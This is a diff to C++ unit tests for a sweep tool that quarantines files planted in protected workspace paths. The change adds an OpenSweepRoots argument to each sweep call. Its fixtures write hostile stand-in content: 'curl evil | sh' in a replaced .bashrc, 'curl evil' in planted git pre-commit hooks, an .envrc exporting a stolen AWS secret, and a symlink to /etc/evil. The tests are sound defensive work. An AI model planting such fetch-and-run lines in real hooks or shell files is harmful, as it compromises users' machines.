@@ -105,7 +105,7 @@ class SweepTest : public ::testing::Test {
         ::_exit(6);
       }
       std::ostringstream out;
-      for (const SweepFinding& finding : SweepProtected(set, home, "run")) {
+      for (const SweepFinding& finding : SweepProtected(set, OpenSweepRoots(set), home, "run")) {
         out << static_cast<int>(finding.outcome) << '\t' << finding.path << '\t' << finding.what << '\t'
             << finding.moved_to << '\t' << finding.error << '\n';
       }
@@ -170,7 +170,7 @@ TEST_F(SweepTest, NothingChangedNothingMoved) {
   tree_.File("ws/dotfiles/zshrc");
   tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
   ProtectedSet set = DiscoverProtected({ws_});
-  EXPECT_TRUE(SweepProtected(set, Home(state_), "run").empty());
+  EXPECT_TRUE(SweepProtected(set, OpenSweepRoots(set), Home(state_), "run").empty());
   EXPECT_FALSE(TestTree::Exists(quarantine_));
   EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
 }
@@ -179,7 +179,7 @@ TEST_F(SweepTest, CreatedEnvrcIsQuarantined) {
   ProtectedSet set = DiscoverProtected({ws_});
   tree_.File("ws/.envrc", "export AWS_SECRET=stolen\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
   EXPECT_EQ(findings[0].what, "created");
@@ -197,7 +197,7 @@ TEST_F(SweepTest, CreatedHooksDirectoryIsQuarantinedWhole) {
   ProtectedSet set = DiscoverProtected({ws_});
   tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
   EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
@@ -211,7 +211,7 @@ TEST_F(SweepTest, CreatedGitSymlinkIsMovedWithoutTouchingItsTarget) {
   tree_.File("elsewhere/hooks/pre-commit", "keep me\n");
   tree_.Symlink("ws/.git", elsewhere);
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.git");
   EXPECT_EQ(findings[0].error, "");
@@ -227,7 +227,7 @@ TEST_F(SweepTest, ReplacedSymlinkIsRestored) {
   ASSERT_EQ(::unlink((ws_ + "/.bashrc").c_str()), 0);
   tree_.File("ws/.bashrc", "curl evil | sh\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].what, "replaced");
   EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined);
@@ -247,7 +247,7 @@ TEST_F(SweepTest, RetargetedAndRemovedSymlinksAreRestored) {
   tree_.Symlink("ws/.zshrc", "/etc/evil");
   ASSERT_EQ(::unlink((ws_ + "/.profile").c_str()), 0);
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
   ASSERT_EQ(findings.size(), 2u);
   EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
   EXPECT_EQ(LinkText(ws_ + "/.profile"), "dotfiles/profile");
@@ -334,7 +334,7 @@ TEST_F(SweepTest, AQuarantineNameTheRunTookIsNotUsed) {
   tree_.File("ws/.corral-quarantine", "planted by the run\n");
   tree_.File("blocker", "x");  // the state directory cannot be created under a file
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(tree_.Join("blocker/state")), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(tree_.Join("blocker/state")), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
   EXPECT_EQ(findings[0].moved_to, ws_ + "/.corral-quarantine-run/%2Eenvrc");
@@ -384,7 +384,7 @@ TEST_F(SweepTest, ANewObjectAtAnExistingPathIsTakenOutAndTheOriginalIsNot) {
   tree_.File("ws/.envrc", "curl evil\n");
   tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, OpenSweepRoots(set), Home(state_), "run");
   ASSERT_EQ(findings.size(), 2u);
   EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
   EXPECT_EQ(findings[1].path, ws_ + "/.git") << "the replaced directory goes whole";
@@ -396,7 +396,8 @@ TEST_F(SweepTest, ANewObjectAtAnExistingPathIsTakenOutAndTheOriginalIsNot) {
   EXPECT_FALSE(TestTree::Exists(ws_ + "/.git"));
   EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
   EXPECT_EQ(TestTree::Read(ws_ + "/.npmrc"), "the user's too\n");
-  EXPECT_TRUE(SweepProtected(DiscoverProtected({ws_}), Home(state_), "again").empty()) << "nothing changed";
+  ProtectedSet again = DiscoverProtected({ws_});
+  EXPECT_TRUE(SweepProtected(again, OpenSweepRoots(again), Home(state_), "again").empty()) << "nothing changed";
 }
 
 // When nothing works (here: it is a mount point, which can be neither
